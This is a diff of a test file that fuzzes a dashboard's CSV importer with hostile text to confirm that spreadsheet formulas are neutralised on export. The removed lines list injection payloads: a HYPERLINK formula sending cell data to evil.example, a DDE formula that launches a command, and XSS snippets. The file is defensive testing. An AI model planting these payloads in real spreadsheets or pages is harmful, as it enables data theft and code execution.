@@ -4,8 +4,8 @@ any script) go through the real importer, then out of the API. The JSON gives ba
 the text (trimmed, as the importer trims cells); the CSV gives it back with the spreadsheet
 formula neutralised (dashboard.csvsafe) and no cell that a spreadsheet would run.
 
-The page, the map and the image exports are checked with the same names in the browser
-tests of the map engine."""
+The page, the map and the image exports are not checked here; tests/hostile.py has the
+texts and the file writer for their tests."""
 from __future__ import annotations
 
 import csv
@@ -14,60 +14,31 @@ import itertools
 
 import pytest
 from hypothesis import HealthCheck, given, settings
-from hypothesis import strategies as st
 
 from app import create_app
 from datasets import GEODATA
 from dashboard.config import Config
 from dashboard.csvsafe import FORMULA_START, PLAIN_NUMBER, safe_cell
 from dashboard.importing import import_file
-
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@x", "-2+3", "-3.5",
-           "=cmd|' /C calc'!A0", '<a href="https://evil.example/">x</a>',
-           '<span style="font-size:200px">big</span>', "<script>alert(1)</script>",
-           "<img src=x onerror=alert(1)>", "&lt;b&gt;", '"quoted", with comma', "line\nbreak",
-           "درنة", "{{7*7}}", "%s%n"]
-TEXT_FIELDS = ("actor1", "actor2", "place", "summary", "summary_fr", "notes", "source",
-               "source_title")
-COLUMNS = ("date", "lon", "lat", "event_type", "sub_event_type", "url") + TEXT_FIELDS
-
-characters = st.characters(codec="utf-8", exclude_categories=("Cs",), exclude_characters="\x00")
-hostile_text = (st.sampled_from(HOSTILE)
-                | st.tuples(st.sampled_from(list("=+-@\t\r<") + HOSTILE),
-                            st.text(characters, max_size=20)).map("".join)
-                | st.text(characters, min_size=1, max_size=30)
-                ).map(str.strip).filter(bool)
-rows = st.lists(st.fixed_dictionaries({f: hostile_text for f in TEXT_FIELDS}),
-                min_size=1, max_size=4)
+from hostile import TEXT_FIELDS, hostile_csv, hostile_rows
 
 names = (f"hostile-{n}" for n in itertools.count())
 
 
 @pytest.fixture(scope="module")
 def app(tmp_path_factory):
-    datasets = tmp_path_factory.mktemp("datasets")
-    return create_app(Config(data_dir=GEODATA, datasets_dir=datasets)), datasets
-
-
-def csv_file(folder, table: list[dict]) -> bytes:
-    text = io.StringIO()
-    writer = csv.writer(text)
-    writer.writerow(COLUMNS)
-    for n, row in enumerate(table):
-        writer.writerow(["2016-04-21", -3.5 + n, 32.5, "Battles", "Armed clash",
-                         "https://example.org/a"] + [row[f] for f in TEXT_FIELDS])
-    path = folder / "hostile.csv"
-    path.write_text(text.getvalue(), encoding="utf-8", newline="")
-    return path
+    datasets, files = tmp_path_factory.mktemp("datasets"), tmp_path_factory.mktemp("files")
+    return create_app(Config(data_dir=GEODATA, datasets_dir=datasets)), datasets, files
 
 
 @settings(max_examples=40, deadline=None, database=None,
           suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
-@given(table=rows)
+@given(table=hostile_rows)
 def test_hostile_text_is_kept_as_data_in_json_and_neutralised_in_csv(app, table):
-    dash_app, datasets = app
+    dash_app, datasets, files = app
     name = next(names)
-    report = import_file(csv_file(datasets, table), dataset=name, datasets_dir=datasets)
+    report = import_file(hostile_csv(files / f"{name}.csv", table), dataset=name,
+                         datasets_dir=datasets)
     assert report.ok, report.as_text()
     client = dash_app.server.test_client()
 
